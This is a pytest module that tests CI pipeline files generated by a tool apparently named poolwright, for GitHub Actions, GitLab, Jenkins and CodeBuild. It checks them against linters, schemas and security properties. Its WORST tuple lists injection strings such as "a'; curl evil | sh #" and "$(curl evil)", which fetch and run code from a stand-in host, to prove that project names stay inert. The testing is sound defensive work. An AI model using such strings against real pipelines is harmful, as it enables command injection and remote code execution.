"""Pipelines: as they were reviewed, right by the linters of each system, and safe whatever a project's names are."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any, cast

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from poolwright.render.ci_systems import CISystem
from poolwright.render.pipeline import PipelineContext, slug
from poolwright.render.pipeline_text import FOLDER, pinned_actions
from tests.poolwright.render.groovy import groovy_mistakes, groovy_strings
from tests.poolwright.render.stages import THREE, chain, files, stage

GOLDEN = Path(__file__).parent / "pipelines"
PROGRAMS = Path(sys.executable).parent
# A stack's files are named after it, so these and whatever else a file's name may have.
HOSTILE = st.text(
    alphabet=st.one_of(st.sampled_from("${}'\"\\`#:;|&<>()!%@\n\t -_.ab"), st.characters(exclude_categories=["Cs"])),
    min_size=1,
    max_size=30,
)
WORST = (
    "${{ secrets.KEY }}",
    "a'; curl evil | sh #",
    '"\n    run: curl evil',
    "$(curl evil)",
    "\\u0027); evil('",
    "'''; evil('",
    "#{Source.CommitId}",
    "- {x: !Ref y}",
    "$$A${B}",
    "é\u2028\x85\x00😀",
)


@pytest.mark.parametrize("system", CISystem)
def test_each_file_is_as_it_was_reviewed(system: CISystem, pytestconfig: pytest.Config) -> None:
    folder = GOLDEN / system
    made = files(system)
    if pytestconfig.getoption("--update-cases"):
        shutil.rmtree(folder, ignore_errors=True)
        for path, text in made.items():
            # Git and linters would take a dotted folder for this repository's own.
            target = folder / path.lstrip(".")
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text, "utf-8")
    kept = {
        path.relative_to(folder).as_posix(): path.read_text("utf-8") for path in folder.rglob("*") if path.is_file()
    }
    assert kept == {path.lstrip("."): text for path, text in made.items()}


@pytest.mark.parametrize("system", CISystem)
def test_no_template_knows_a_stack_by_name(system: CISystem) -> None:
    for text in files(system).values():
        assert not re.search(r"\b(dev|staging|prod)\b", text)


@pytest.mark.parametrize("system", CISystem)
def test_no_pipeline_keeps_a_key(system: CISystem) -> None:
    for text in files(system).values():
        assert not re.search(r"secrets\.|ACCESS_KEY|\b\d{12}\b", text)


@pytest.mark.parametrize("system", CISystem)
def test_one_stack_is_promoted_nowhere(system: CISystem) -> None:
    assert not any("promote" in path for path in files(system, chain("only")))


@pytest.fixture(scope="module")
def workflows(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """GitHub's files of three stacks, of one, and of one without AWS, each a repository."""
    root = tmp_path_factory.mktemp("github")
    hosts = PipelineContext(project="edge", branch="main", stages=(stage("edge", region=None, environment=""),))
    worst = chain(*WORST[:4])
    for name, context in {"three": THREE, "one": chain("only"), "hosts": hosts, "worst": worst}.items():
        for path, text in files(CISystem.GITHUB, context).items():
            target = root / name / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text, "utf-8")
        (root / name / ".git").mkdir()
    return root


def judged(*command: str, folder: Path) -> str:
    """What a linter of the locked packages says; empty where it is content."""
    done = subprocess.run(
        [str(PROGRAMS / command[0]), *command[1:]], cwd=folder, capture_output=True, text=True, check=False
    )
    return "" if done.returncode == 0 else done.stdout + done.stderr


def test_zizmor_has_nothing_to_say_of_the_workflows(workflows: Path) -> None:
    # `$/` for a repository's own actions is newer than what GitHub's own schema and self-hosted servers know.
    settings = workflows / "zizmor.yml"
    settings.write_text("rules: {self-repository: {disable: true}}\n", "utf-8")
    assert (
        judged("zizmor", "--offline", "--quiet", "--config", str(settings), "three", "one", "hosts", folder=workflows)
        == ""
    )


def test_zizmor_has_a_say(workflows: Path, tmp_path: Path) -> None:
    text = (workflows / "three/.github/workflows/poolwright-review.yml").read_text("utf-8")
    path = tmp_path / ".github" / "workflows" / "review.yml"
    path.parent.mkdir(parents=True)
    path.write_text(re.sub(r"actions/checkout@[0-9a-f]{40}", "actions/checkout@v6", text), "utf-8")
    assert "unpinned-uses" in judged("zizmor", "--offline", "--quiet", ".", folder=tmp_path)


def test_workflows_and_action_are_of_githubs_schemas(workflows: Path) -> None:
    found = [str(path) for path in sorted(workflows.rglob("poolwright-*.yml"))]
    actions = [str(path) for path in sorted(workflows.rglob("action.yml"))]
    # Where there is one stack nothing is promoted; where none has limits there is no autopilot.
    assert len(found) == 5 * 4 - 2 - 1
    for schema, paths in (("github-workflows", found), ("github-actions", actions)):
        assert judged("check-jsonschema", "--builtin-schema", f"vendor.{schema}", *paths, folder=workflows) == ""


def test_actionlint_has_nothing_to_say_where_it_is_installed(workflows: Path) -> None:
    program = shutil.which("actionlint") or shutil.which("actionlint", path=PROGRAMS)
    if program is None:
        pytest.skip("no actionlint is installed: sh tools/install-actionlint builds it where Go is")
    for name in ("three", "one", "hosts"):
        done = subprocess.run([program], cwd=workflows / name, capture_output=True, text=True, check=False)
        assert done.stdout == ""


def test_gitlabs_file_is_of_its_schema(tmp_path: Path) -> None:
    paths: list[str] = []
    for number, context in enumerate((THREE, chain("only"), chain(*WORST))):
        path = tmp_path / f"{number}.gitlab-ci.yml"
        path.write_text(files(CISystem.GITLAB, context)[".gitlab-ci.yml"], "utf-8")
        paths.append(str(path))
    schema = ("--builtin-schema", "vendor.gitlab-ci", "--data-transform", "gitlab-ci")
    assert judged("check-jsonschema", *schema, *paths, folder=tmp_path) == ""


def test_jenkins_file_is_groovy() -> None:
    for context in (THREE, chain("only"), chain(*WORST)):
        assert groovy_mistakes(files(CISystem.JENKINS, context)["Jenkinsfile"]) == []
    assert groovy_mistakes("pipeline { stage('x' }") != []


def test_buildspecs_are_of_codebuilds_schema(tmp_path: Path) -> None:
    paths: list[str] = []
    for path, text in files(CISystem.CODEBUILD).items():
        if path != "codebuild/template.yml":
            target = tmp_path / Path(path).name
            target.write_text(text, "utf-8")
            paths.append(str(target))
    schema = Path(__file__).with_name("buildspec.schema.json")
    assert judged("check-jsonschema", "--schemafile", str(schema), *paths, folder=tmp_path) == ""


def test_what_codebuilds_template_refers_to_is_in_it() -> None:
    text = files(CISystem.CODEBUILD)["codebuild/template.yml"]
    template = yaml.load(text, Loader=_Loader)
    known = {*template["Parameters"], *template["Resources"], "AWS"}
    assert set(re.findall(r"!(?:Ref|GetAtt) \"?(\w+)", text)) - known == set()
    assert set(re.findall(r"BuildSpec: ([^,}\s]+)", text)) == set(files(CISystem.CODEBUILD)) - {
        "codebuild/template.yml"
    }


def test_as_many_people_are_asked_as_the_rules_say() -> None:
    stages = (stage("trial"), stage("live", follows="trial", approvals=2))
    context = PipelineContext(project="shop", branch="main", stages=stages)
    jenkins = files(CISystem.JENKINS, context)["Jenkinsfile"]
    assert groovy_mistakes(jenkins) == []
    assert jenkins.count("+ input(") == 2
    template = yaml.load(files(CISystem.CODEBUILD, context)["codebuild/template.yml"], Loader=_Loader)
    actions = template["Resources"]["Pipeline"]["Properties"]["Stages"][-1]["Actions"]
    assert [each["Name"] for each in actions] == ["look", "approval-1", "approval-2", "up"]


def test_every_action_is_used_by_its_commit() -> None:
    used = {
        step["uses"]
        for text in files(CISystem.GITHUB).values()
        for step in _steps(yaml.safe_load(text))
        if "uses" in step and not step["uses"].startswith("./")
    }
    assert used == {f"{name}@{commit}" for name, (_, commit) in pinned_actions().items()}


@pytest.mark.parametrize("context", [THREE, chain("only")])
def test_files_of_the_repository_that_a_workflow_uses_are_there(context: PipelineContext) -> None:
    made = files(CISystem.GITHUB, context)
    for path in set(re.findall(r"uses: \./(\S+)", "".join(made.values()))):
        assert path in made or f"{path}/action.yml" in made


def test_no_step_puts_an_expression_into_its_script() -> None:
    for text in files(CISystem.GITHUB).values():
        for step in _steps(yaml.safe_load(text)):
            assert "${{" not in step.get("run", "")


def test_an_up_is_never_cancelled_and_waits_for_the_one_before() -> None:
    jobs = yaml.safe_load(files(CISystem.GITHUB)[".github/workflows/poolwright-deliver.yml"])["jobs"]
    for name in ("trial", "rehearsal", "live"):
        assert jobs[f"up-{name}"]["concurrency"] == {"group": f"poolwright-up-{name}", "cancel-in-progress": False}
    assert jobs["up-rehearsal"]["needs"] == ["locks", "up-trial"]
    assert jobs["up-live"]["needs"] == ["locks", "up-rehearsal", "look-live"]


def test_an_autopilot_is_off_until_it_is_configured_and_pushes_its_own_branch_alone() -> None:
    jobs = yaml.safe_load(files(CISystem.GITHUB)[".github/workflows/poolwright-autopilot.yml"])["jobs"]
    assert list(jobs) == ["autopilot-live"], "the others' files state no limits"
    job = jobs["autopilot-live"]
    assert job["if"] == "${{ vars.POOLWRIGHT_MEASURED_LIVE != '' }}"
    assert job["concurrency"] == {"group": "poolwright-autopilot-live", "cancel-in-progress": False}
    assert job["permissions"] == {"contents": "write", "id-token": "write", "pull-requests": "write"}
    pushes = [line for step in job["steps"] for line in step.get("run", "").splitlines() if "git push" in line]
    assert [each.strip() for each in pushes] == [
        'git push --force origin "HEAD:refs/heads/$BRANCH"',
        'git push origin --delete "refs/heads/$BRANCH"',
    ]
    assert job["env"]["BRANCH"] == "autopilot/live"
    given = [step["name"] for step in job["steps"] if "token" in str(step.get("env", {}))]
    assert given == ["Offer", "Withdraw"], "what plans and what reviews has no right to write"


@pytest.mark.parametrize("system", CISystem)
def test_stacks_without_limits_have_no_autopilot(system: CISystem) -> None:
    context = PipelineContext(project="shop", branch="main", stages=(stage("trial"), stage("live", follows="trial")))
    for path, text in files(system, context).items():
        assert "autopilot" not in path + text


def test_a_fork_gets_no_right() -> None:
    jobs = yaml.safe_load(files(CISystem.GITHUB)[".github/workflows/poolwright-review.yml"])["jobs"]
    for name in ("trial", "rehearsal", "live"):
        job = jobs[f"fork-{name}"]
        assert job["permissions"] == {"contents": "read"}
        assert job["env"]["POOLWRIGHT_CLOUD"] == "sandbox"
        assert not any("aws-actions" in step.get("uses", "") for step in job["steps"])


@settings(max_examples=15)
@given(HOSTILE, HOSTILE)
def test_whatever_a_project_names_its_stacks_they_are_values_and_nothing_else(name: str, branch: str) -> None:
    _is_safe(name, branch)


@pytest.mark.parametrize("name", WORST)
def test_the_worst_names_are_values_and_nothing_else(name: str) -> None:
    _is_safe(name, name)


def _is_safe(name: str, branch: str) -> None:
    # The beginning makes sure that a slug is found in a script only where a template has put it.
    names = ["qqqq", f"qqqqq{name}"]
    context = PipelineContext(project=name, branch=branch, stages=chain(*names).stages)
    for system in (CISystem.GITHUB, CISystem.GITLAB, CISystem.CODEBUILD):
        plain = _plain_scripts(system)
        for path, text in files(system, context).items():
            # Expressions are GitHub's alone.
            found = yaml.load(text, Loader=_Loader)
            told = list(_scripts(found, context, expressions=system is CISystem.GITHUB))
            assert told == plain[path]
            assert set(_named(found, "STACK")) <= {*names, "$STACK"}
    jenkins = files(CISystem.JENKINS, context)["Jenkinsfile"]
    assert groovy_mistakes(jenkins) == []
    assert {each.replace("$", "$$") for each in names} <= set(groovy_strings(jenkins))


@cache
def _plain_scripts(system: CISystem) -> dict[str, list[str]]:
    """The scripts of a project without a surprise."""
    context = chain("qqqq", "qqqqq")
    return {
        path: list(_scripts(yaml.load(text, Loader=_Loader), context, expressions=system is CISystem.GITHUB))
        for path, text in files(system, context).items()
    }


class _Loader(yaml.CSafeLoader):
    """YAML with the tags of GitLab and CloudFormation, which are no matter here."""


def _tag(loader: object, suffix: str, node: object) -> str:
    del loader, node
    return suffix


cast("Any", _Loader).add_multi_constructor("!", _tag)


def _scripts(tree: Any, context: PipelineContext, *, expressions: bool) -> Iterator[str]:
    """What a shell or GitHub's expressions would read, with the slugs of stacks taken for their places."""
    for text in _texts(tree, expressions):
        # The longer one begins with the shorter.
        for place, each in reversed(list(enumerate(context.stages))):
            for name in (each.slug, each.slug.upper().replace("-", "_")):
                text = text.replace(name, f"<{place}>")
        yield text


def _texts(tree: Any, expressions: bool) -> Iterator[str]:
    if isinstance(tree, dict):
        entries = cast("dict[str, Any]", tree)
        for name in ("run", "script", "commands"):
            lines: Any = entries.get(name, [])
            yield from [lines] if isinstance(lines, str) else [str(line) for line in lines]
        for value in entries.values():
            yield from _texts(value, expressions)
    elif isinstance(tree, list):
        for value in cast("list[Any]", tree):
            yield from _texts(value, expressions)
    elif expressions and isinstance(tree, str):
        # `${{` of a project's text is written so that it says itself.
        yield from (code for code in re.findall(r"\$\{\{ (.*?) \}\}", tree) if code != "'${{'")


def _named(tree: Any, name: str) -> Iterator[str]:
    """Values of a variable, as a job gets them."""
    if isinstance(tree, dict):
        entries = cast("dict[str, Any]", tree)
        value: Any = entries.get("Value") if entries.get("Name") == name else entries.get(name)
        if isinstance(value, dict):
            value = cast("dict[str, Any]", value).get("value")
        if isinstance(value, str):
            yield value.replace("${{ '${{' }}", "${{")
        for each in entries.values():
            yield from _named(each, name)
    elif isinstance(tree, list):
        for each in cast("list[Any]", tree):
            yield from _named(each, name)


def _steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    jobs = workflow.get("jobs", {"action": workflow.get("runs", {})})
    return [step for job in jobs.values() for step in job.get("steps", [])]


@given(st.lists(HOSTILE, min_size=2, max_size=5, unique=True))
def test_slugs_are_plain_and_keep_stacks_apart(names: list[str]) -> None:
    slugs = [slug(name) for name in names]
    assert len(set(slugs)) == len(names)
    assert all(re.fullmatch(r"[a-z][a-z0-9-]*[a-z0-9]|[a-z]", each) for each in slugs)


def test_steps_read_variables_alone() -> None:
    for path in (FOLDER / "steps").glob("*.sh"):
        assert "{{" not in path.read_text("utf-8")
        done = subprocess.run(["sh", "-n", str(path)], capture_output=True, text=True, check=False)
        assert done.stderr == ""


def test_the_same_context_gives_the_same_bytes() -> None:
    again = PipelineContext(project="shop", branch="main", stages=chain("trial", "rehearsal", "live").stages)
    for system in CISystem:
        assert json.dumps(files(system)) == json.dumps(files(system, again))
